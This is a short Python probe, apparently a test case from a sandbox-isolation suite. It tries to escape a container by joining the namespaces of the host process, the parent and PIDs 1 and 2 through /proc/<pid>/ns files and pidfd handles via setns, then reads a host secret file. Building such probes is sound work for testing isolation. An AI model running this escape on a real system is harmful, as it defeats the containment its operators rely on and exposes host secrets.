"""Enters the namespaces of other processes, through /proc, process handles and the parent's.

gain: host, secret
"""

# %%
import os

for pid in (HOST["process"], os.getppid(), 1, 2):
    for name in ("mnt", "pid", "user", "net", "ipc", "cgroup"):
        fd = attempt(os.open, f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        if fd is not None and LIBC.setns(fd, 0) == 0:
            win()
    handle = attempt(os.pidfd_open, pid)
    if handle is not None and LIBC.setns(handle, 0x00020000) == 0:
        win()
read(os.path.join(HOST["root"], "secret.txt"))
